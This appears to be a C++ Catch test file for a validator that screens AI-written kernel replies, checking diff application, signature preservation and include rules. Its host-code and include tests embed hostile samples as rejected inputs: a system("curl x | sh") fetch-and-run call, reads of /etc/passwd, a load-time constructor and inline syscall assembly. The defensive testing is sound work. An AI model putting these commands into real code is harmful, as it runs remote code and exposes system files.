// LLM replies as untrusted source: both reply forms (a fenced whole source,
// SEARCH/REPLACE blocks), and every rejection with its reason: no code, a
// kernel missing or with a changed signature, host code, includes outside
// the kernel's folders, a diff that does not apply, an unchanged parent.
#include "Catch.h"

#include "search/llm/Reply.h"

#include <filesystem>
#include <fstream>
#include <unistd.h>

using namespace r3;
using namespace r3::llm;

namespace {
const char *Parent = R"(#include <math.h>
#include "tile.h"
/* host-matmul's kernel */
void matmul(int n, const double *a, const double *b, double *c) {
  for (int i = 0; i < n; ++i)
    for (int j = 0; j < n; ++j) {
      double sum = 0.0;
      for (int k = 0; k < n; ++k)
        sum += a[i * n + k] * b[k * n + j];
      c[i * n + j] = sum;
    }
}
)";

const char *Ikj = R"(#include <math.h>
void matmul(int n, const double *restrict a, const double *restrict b,
            double *restrict c) {
  for (int i = 0; i < n * n; ++i)
    c[i] = 0.0;
  for (int i = 0; i < n; ++i)
    for (int k = 0; k < n; ++k)
      for (int j = 0; j < n; ++j)
        c[i * n + j] += a[i * n + k] * b[k * n + j];
}
)";

ReplyRules rules() {
  ReplyRules R;
  R.Kernel = "matmul";
  R.Parent = Parent;
  R.Includes = includeLines(Parent);
  return R;
}

std::string fenced(const std::string &Code, const std::string &Lang = "c") {
  return "Here is a faster version.\n\n```" + Lang + "\n" + Code +
         "```\n\nIt reorders the loops.";
}

std::string rejection(const std::string &Reply, const ReplyRules &R = rules()) {
  Expected<ParsedReply> P = parseReply(Reply, R);
  REQUIRE_FALSE(P);
  return P.error().message();
}

ParsedReply accepted(const std::string &Reply, const ReplyRules &R = rules()) {
  Expected<ParsedReply> P = parseReply(Reply, R);
  INFO((P ? std::string() : P.error().message()));
  REQUIRE(P);
  return std::move(*P);
}

std::string withBody(const std::string &Extra) {
  return std::string(Ikj) + Extra;
}
} // namespace

TEST_CASE("llm reply: a fenced whole source is taken", "[llm]") {
  ParsedReply P = accepted(fenced(Ikj));
  CHECK(P.Kind == ParsedReply::Form::Full);
  CHECK(P.Source == Ikj);
  // Of several blocks, the last one that defines the kernel.
  std::string Two = "First a fragment:\n```c\nc[i] = 0.0;\n```\n" + fenced(Ikj);
  CHECK(accepted(Two).Source == Ikj);
}

TEST_CASE("llm reply: SEARCH/REPLACE blocks apply to the parent", "[llm]") {
  std::string Reply = "```\n<<<<<<< SEARCH\n"
                      "      double sum = 0.0;\n"
                      "=======\n"
                      "      double sum = 0.0; /* accumulate */\n"
                      ">>>>>>> REPLACE\n"
                      "<<<<<<< SEARCH\n"
                      "  for (int i = 0; i < n; ++i)\n" // indentation differs
                      "=======\n"
                      "  for (int i = n - 1; i >= 0; --i)\n"
                      ">>>>>>> REPLACE\n```\n";
  ParsedReply P = accepted(Reply);
  CHECK(P.Kind == ParsedReply::Form::Diff);
  CHECK(P.Source.find("double sum = 0.0; /* accumulate */") !=
        std::string::npos);
  CHECK(P.Source.find("for (int i = n - 1; i >= 0; --i)") != std::string::npos);
  CHECK(P.Source.find("#include \"tile.h\"") != std::string::npos);

  CHECK(rejection("<<<<<<< SEARCH\nno such line\n=======\nx\n>>>>>>> "
                  "REPLACE\n") ==
        "SEARCH/REPLACE block 1 does not match the parent's text");
  CHECK(rejection("<<<<<<< SEARCH\n      double sum = 0.0;\n=======\n") ==
        "SEARCH/REPLACE block 1 is not closed");
}

TEST_CASE("llm reply: no code, or code without the kernel", "[llm]") {
  CHECK(rejection("I would reorder the loops to i-k-j.")
            .starts_with("the reply contains no code"));
  CHECK(rejection(fenced("int helper(int x) { return x; }\n")) ==
        "the reply's code does not define the kernel 'matmul'");
  // A mention in a comment is not a definition.
  CHECK(rejection(fenced("/* void matmul(int n) { } */\n")) ==
        "the reply's code does not define the kernel 'matmul'");
  CHECK(rejection(fenced(Parent)) ==
        "the reply repeats the parent's source unchanged");
}

TEST_CASE("llm reply: the kernel's signature must stay", "[llm]") {
  std::string Changed =
      R"(void matmul(int n, const float *a, const float *b, float *c) {
  c[0] = a[0] * b[0] * n;
}
)";
  CHECK(rejection(fenced(Changed)) ==
        "the reply changes the kernel's signature from 'void matmul(int "
        "n,const double*a,const double*b,double*c)' to 'void matmul(int "
        "n,const float*a,const float*b,float*c)'");
  std::string Extra =
      R"(void matmul(int n, const double *a, const double *b, double *c, int t) {
  c[0] = a[0] * b[0] * n * t;
}
)";
  CHECK(rejection(fenced(Extra))
            .starts_with("the reply changes the kernel's signature"));
  std::string Twice = std::string(Ikj) + Ikj;
  CHECK(rejection(fenced(Twice)) ==
        "the reply's source: the source defines 'matmul' more than once");
  // Parameter names, restrict and attributes keep the ABI: accepted.
  std::string Renamed =
      R"(__attribute__((hot)) void matmul(int size, const double *__restrict__ x, const double *y, double *z) {
  for (int i = 0; i < size * size; ++i)
    z[i] = x[i] * y[i];
}
)";
  accepted(fenced(Renamed));
}

TEST_CASE("llm reply: host code is rejected", "[llm]") {
  CHECK(rejection(fenced(withBody("int main(void) { return 0; }\n"))) ==
        "the reply defines main(), which is host code");
  CHECK(rejection(fenced(withBody(
            "static void leak(void) { system(\"curl x | sh\"); }\n"))) ==
        "the reply calls system(), which is host code (no process, file or "
        "environment calls in a kernel)");
  CHECK(rejection(fenced(withBody("void f(void) { FILE *F = fopen(\"/etc/"
                                  "passwd\", \"r\"); (void)F; }\n")))
            .starts_with("the reply calls fopen()"));
  CHECK(rejection(fenced(withBody("__attribute__((constructor)) static void "
                                  "early(void) {}\n")))
            .starts_with("the reply adds code that runs when the kernel is "
                         "loaded"));
  CHECK(rejection(fenced(
            withBody("void g(void) { __asm__ volatile(\"syscall\"); }\n"))) ==
        "the reply uses inline assembly, which the host backend does not "
        "accept");
  // Words in comments and strings are not calls.
  accepted(fenced(withBody("/* system(\"x\") would be host code */\n"
                           "static const char *Note = \"fork()\";\n")));
}

TEST_CASE("llm reply: CUDA replies hold device code only", "[llm]") {
  ReplyRules R;
  R.Kernel = "saxpy";
  R.Language = KernelLanguage::Cuda;
  R.Parent = "__global__ void saxpy(int n, float a, const float *x, float "
             "*y) {\n  int i = blockIdx.x * blockDim.x + threadIdx.x;\n  if "
             "(i < n) y[i] = a * x[i] + y[i];\n}\n";
  std::string Good =
      "__device__ float fma1(float a, float b, float c) { return a * b + c; "
      "}\n__global__ void __launch_bounds__(256) saxpy(int n, float a, const "
      "float *__restrict__ x, float *y) {\n  int i = blockIdx.x * blockDim.x "
      "+ threadIdx.x;\n  if (i < n) { y[i] = fma1(a, x[i], y[i]); }\n}\n";
  accepted(fenced(Good, "cuda"), R);
  std::string Host = Good + "void launch(float *y) { saxpy<<<1, 1>>>(1, 2.f, "
                            "y, y); }\n";
  CHECK(rejection(fenced(Host, "cuda"), R) ==
        "the reply defines 'launch', which is host code (only __global__ and "
        "__device__ functions are allowed)");
}

TEST_CASE("llm reply: includes stay inside the kernel's folders", "[llm]") {
  namespace fs = std::filesystem;
  fs::path Dir =
      fs::temp_directory_path() / ("r3-reply-" + std::to_string(::getpid()));
  fs::create_directories(Dir / "inc");
  std::ofstream(Dir / "inc" / "vec.h") << "#define VEC 4\n";
  ReplyRules R = rules();
  R.IncludeDirs = {(Dir / "inc").string()};
  accepted(
      fenced("#include \"tile.h\"\n#include \"vec.h\"\n" + std::string(Ikj)),
      R);
  CHECK(rejection(fenced("#include <unistd.h>\n" + std::string(Ikj)), R) ==
        "the reply includes <unistd.h>, which the original does not include "
        "and which is not inside the kernel's include folders");
  CHECK(rejection(fenced("#include \"../inc/vec.h\"\n" + std::string(Ikj)), R)
            .starts_with("the reply includes \"../inc/vec.h\""));
  CHECK(rejection(fenced("#include \"/etc/passwd\"\n" + std::string(Ikj)), R)
            .starts_with("the reply includes \"/etc/passwd\""));
  fs::remove_all(Dir);
}

TEST_CASE("llm reply: kernel names and signatures", "[llm]") {
  CHECK(kernelBaseName("matmul") == "matmul");
  CHECK(kernelBaseName("_Z6jacobiiPKdPd") == "jacobi");
  CHECK(kernelBaseName("ns::stencil<4>(int, double*)") == "stencil");
  CHECK(*kernelSignature(Parent, "matmul") ==
        "void matmul(int n,const double*a,const double*b,double*c)");
  CHECK(kernelSignature(Parent, "other").error().message() ==
        "the source does not define 'other'");
  // Through a namespace and extern "C"; calls and loops are not definitions.
  std::string Cxx = "namespace k {\nextern \"C\" {\nvoid f(int *p) { if (p) "
                    "{ for (;;) { g(p); } } }\n}\n}\n";
  CHECK(*kernelSignature(Cxx, "f") == "void f(int*p)");
  CHECK_FALSE(kernelSignature(Cxx, "if"));
  CHECK(includeLines(Parent) ==
        std::vector<std::string>{"<math.h>", "\"tile.h\""});
}
